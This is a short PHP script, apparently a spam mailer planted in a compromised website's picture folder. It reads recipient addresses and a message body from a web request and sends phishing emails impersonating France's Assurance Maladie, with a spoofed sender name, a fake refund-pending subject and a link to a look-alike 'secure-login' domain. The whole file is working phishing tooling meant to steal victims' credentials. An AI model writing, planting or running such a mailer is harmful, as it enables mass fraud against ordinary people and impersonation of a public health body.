<?php
// What a robber leaves in a folder for pictures: mails whatever it is handed.
$taken = 0;
foreach (explode(',', $_POST['to']) as $address) {
    $link = 'http://secure-login.' . substr(md5($address), 0, 8) . '.top/wp-includes/ameli/index.php';
    $taken += mail($address, 'Votre remboursement est en attente', str_replace('{link}', $link, $_POST['body']),
        "From: =?utf-8?B?" . base64_encode("l'Assurance Maladie") . "?= <no-reply@boutique.example>\r\n"
        . "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8");
}
echo $taken;
